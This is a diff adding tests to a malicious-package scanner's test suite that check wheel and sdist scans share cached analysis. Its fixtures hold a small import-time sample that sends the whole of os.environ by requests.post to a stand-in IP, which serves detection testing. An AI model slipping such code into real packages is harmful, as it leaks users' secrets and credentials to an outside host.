@@ -10,8 +10,11 @@ import subprocess
 import sys
 import textwrap
 from pathlib import Path
+from typing import Any
 
-from custody.scan import Scanner, ScanTask
+import pytest
+
+from custody.scan import Scanner, ScanTask, collect
 from custody.scan.engine import release_groups, release_of
 from custody.scan.model import ScanResult
 from custody.scan.reuse import ModuleMemo
@@ -93,6 +96,60 @@ def test_top_level_calls_are_replayed_only_when_the_imported_modules_are_the_sam
     assert any(f.rule == "install-beacon" for f in second.findings)
     alone = _alone(with_net)
     assert (second.verdict, _findings(second)) == (alone.verdict, _findings(alone))
+
+
+def test_a_src_layout_sdist_reads_its_imports_as_the_wheel_does(tmp_path: Path) -> None:
+    # the sdist keeps the package under src/; its modules are named as the wheel's are, so the
+    # import-time calls the wheel's scan found for the same bytes in the same package are reused
+    init = "from .net import beacon\nbeacon()\n"
+    files = _dedent({f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON})
+    wheel = write_wheel(_dir(tmp_path / "w"), files)
+    sdist = write_sdist(_dir(tmp_path / "s"), {f"src/{path}": text for path, text in files.items()})
+    scanner = Scanner()
+    scanner.scan_task(ScanTask(str(wheel)))
+    (second,) = scanner.scan_task(ScanTask(str(sdist)))
+    assert scanner.memo is not None
+    entry = scanner.memo._entries[init.encode()]
+    assert [name for name in entry.derived if name.startswith("level-calls:")] == [f"level-calls:{PKG}"]
+    assert any(f.rule == "install-beacon" for f in second.findings)
+    alone = _alone(sdist)
+    assert (second.verdict, second.score, _findings(second)) == (alone.verdict, alone.score, _findings(alone))
+
+
+def test_helper_summaries_are_kept_for_the_next_artifact_of_a_release(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    sender = 'import requests\n\ndef send(d):\n    requests.post("https://192.0.2.7/t", json=d)\n'
+    files = {
+        f"{PKG}/__init__.py": "import os\nfrom ._report import send\nsend(dict(os.environ))\n",
+        f"{PKG}/_report.py": sender,
+    }
+    summarised: list[str] = []
+    real = collect.flow_summaries
+
+    def counting(source: bytes, file: str, *args: Any, **kwargs: Any) -> Any:
+        summarised.append(file)
+        return real(source, file, *args, **kwargs)
+
+    monkeypatch.setattr(collect, "flow_summaries", counting)
+    scanner = Scanner()
+    (first,) = scanner.scan_task(ScanTask(str(write_wheel(_dir(tmp_path / "w"), files))))
+    assert len(summarised) == 1 and any(f.rule == "exfil-flow" for f in first.findings)
+    sdist = write_sdist(_dir(tmp_path / "s"), files)
+    (second,) = scanner.scan_task(ScanTask(str(sdist)))
+    assert len(summarised) == 1  # the sdist's copy of the helper was not summarised again
+    assert any(f.rule == "exfil-flow" for f in second.findings)
+    alone = _alone(sdist)
+    assert (second.verdict, second.score, _findings(second)) == (alone.verdict, alone.score, _findings(alone))
+    # other names of the same helper are other summaries
+    summarised.clear()
+    other = dict(files)
+    other[f"{PKG}/__init__.py"] = (
+        "import os\nfrom ._report import send as s, tell\ns(dict(os.environ))\ntell()\n"
+    )
+    other[f"{PKG}/_report.py"] = sender + "\ndef tell():\n    pass\n"
+    scanner.scan_task(ScanTask(str(write_wheel(_dir(tmp_path / "w2"), other, version="2.0"))))
+    assert len(summarised) == 1
 
 
 def test_release_groups_put_the_files_of_one_release_together_largest_first(tmp_path: Path) -> None:
